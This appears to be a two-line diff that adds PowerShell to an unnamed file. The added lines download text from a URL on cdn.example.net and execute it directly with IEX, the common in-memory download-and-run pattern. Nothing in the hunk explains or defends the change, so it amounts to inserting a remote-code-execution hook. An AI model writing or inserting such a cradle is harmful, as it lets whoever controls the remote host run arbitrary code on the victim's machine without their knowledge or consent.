@@ -1,0 +1,2 @@
+$u = "https://cdn.example.net/s.txt"
+IEX (New-Object Net.WebClient).DownloadString($u)
